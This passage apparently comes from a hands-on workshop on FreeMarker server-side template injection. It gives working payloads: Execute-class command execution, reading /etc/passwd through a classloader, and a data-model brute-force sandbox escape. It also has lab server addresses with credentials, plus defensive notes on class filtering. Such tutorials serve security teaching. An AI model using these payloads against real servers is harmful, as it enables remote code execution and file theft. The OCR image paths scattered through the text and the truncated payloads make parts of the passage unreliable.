endsWith, ensureEndsWith, ensureStartsWith, esc, eval, exists,
filter, first, float, floor,
hasApi, hasContent, hasNext, html,
ifExists, index, indexOf,int, interpret, isBoolean, isCollection,isCollectionEx, isDate, isDateLike, isDateOnly, isDatetime, isDirective, isEnumerable, isEvenItem, isFirst, isHash, isHashEx, isIndexable, isInfinite, isLast, isMacro, isMarkupOutput, isMethod, isNan, isNode, isNumber,isOddItem, isSequence, isString, isTime, isTransform, isUnknownDateLike, iso, isoH, isoHNZ, isoLocal, isoLocalH, isoLocalHNZ, isoLocalM, isoLocalMNZ, isoLocalMs, isoLocalMsNZ, isoLocalNZ, isoM, isoMNZ, isoMs, isoMsNZ, isoNZ, isoUtc, isoUtcFZ, isoUtcH, isoUtcHNZ, isoUtcM, isoUtcMNZ, isoUtcMs, isoUtcMsNZ, isoUtcNZ, itemCycle, itemParity, itemParityCap,
jString, join, jsString, jsonString,
keepAfter, keepAfterLast, keepBefore, keepBeforeLast, keys,
last, lastIndexOf, leftPad, length, long, lowerAbc, lowerCase,
map, markupString, matches, max, min,
namespace, new, nextSibling, noEsc, nodeName, nodeNamespace, nodeType, number, numberToDate, numberToDatetime, numberToTime,
parent, previousSibling,
removeBeginning, removeEnding, replace, reverse, rightPad, root, round, rtf,
seqContains, seqIndexOf, seqLastIndexOf, sequence, short, size, sort, sortBy, split, startsWith, string, substring, switch,
takeWhile, then, time, timeIfUnknown, trim, truncate, truncateC, truncateCM, truncateM, truncateW, truncateWM,
uncapFirst, upperAbc, upperCase, url, urlPath,
webSafe, withArgs, withArgsLast, wordList,
xhtml, xml

Exhaustive list of all built-in

Most built-ins are really primitive and uninteresting from a security standpoint. But there is one thatstandout: new. We can read the following notice in the official documentation.

Execute class

Following the guidelines describe, we can invoke the exec() function (entry method for TemplateModel). By design the Execute class allows us to execute command and get the result in the form of a string.

<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("id") }

Workshop exercise

For this exercise, connect to the web server http://template-injection.gosec.co:8025/.

To access the administrative features, use the credentials admin / hackfest.


Use the above recipe to leverage the vulnerability.

Can you access to the file flag.txt on the server?Potential defense mechanism

It is worth mentioning that Freemarker does provide a way to restrict the classes reference in templates. The next exercise will implement a ClassResolver as describe in the documentation.


Sandbox in Freemarker

Freemarker has the capability to filter which class can be access. For instance, a subclass of the class TemplateClassResolver needs to be implemented. This class will decide if the class reference in the template is allow or not.

<#list .data_model?keys as key>



Finding a reference to a classloader

Instances of the class Classloaderhave the potential to give us remote code execution (RCE). For instance, classloaders could be providing method load classes (Java bytecode) from external source.

Here is a list of common place where a Classloader might be returned.

This API will translate into the following Freemarker syntax.

//java.lang.Object.getClass() -> java.lang.Class.getClassLoader()
//javax.servlet.ServletRequest ->javax.servlet.ServletContext.getClassLoader()

Not all classloader are equals

Classloaders may have a common subclass. Their implementation differ alot. Different web containers (web server hosting a Java application) will have different classloader at runtime. Therefore we need to ajust our payload to target the right one.

Read file / directory listing

<#assign uri = classLoader.getResource("META-INF").toURI() >
<#assign url = uri.resolve("file:///etc/passwd").toURL() ><#assign bytes = url.openConnection().inputStream.readAllBytes() >

(Payload taken from Room for Escape: Scribbling Outside the Lines of Template Security)

In our tests, we realize that bytes array are not converted automatically to a string. One way to circumvent this limitation is to extract one byte at the time.


Universal method

Oleksandr Mirosh and Alvaro Muñoz are detailing in their paper Room for Escape various chains that are specific to web containers. These containers are Tomcat, Jetty, GlassFish, WebLogic and WebSphere. These are a great source of inspiration if you are looking to escape the sandbox other than Freemarker.

However if your objective is to exploit the current template engine, there is a universal payload (also from the same paper) that will work on Freemarker 2.3.29 and lower (Fixed in March 2020). You need to find a variable in the data model that is an object.

<#assign classloader=<<object>>.class.protectionDomain.classLoader>
<#assign owc=classloader.loadClass("freemarker.template.ObjectWrapper")>
<#assign dwf=owc.getField("DEFAULT_WRAPPER").get(null)>
<#assign ec=classloader.loadClass("freemarker.template.utility.Execute")>

Here is a template that will brute force all of the variables from the data model.

<#list .data_model as key, object_test>

<b>Testing "${key}":</b><br/>

<#assign classloader=object_test.class.protectionDomain.classLoader>
<#assign owc=classloader.loadClass("freemarker.template.ObjectWrapper")>
<#assign dwf=owc.getField("DEFAULT_WRAPPER").get(null)>
<#assign ec=classloader.loadClass("freemarker.template.utility.Execute")>

Shell ! (Workshop exercise

For this exercise, connect to the web server http://template-injection.gosec.co:8026/.

The application is the same as the previous one with one important difference. It is configured with some verylimited class filtering. You will not be able to use the Execute class directly.

To access the administrative features, use the credentials admin / hackfest.

Template engines are very powerful. They need to be considered as scripts. Script needs to be either very well sandbox. If sandboxing is not possible, user permission can be used tolimit the access these risky features. In manycases, they will allow compromising of the underlying operating system.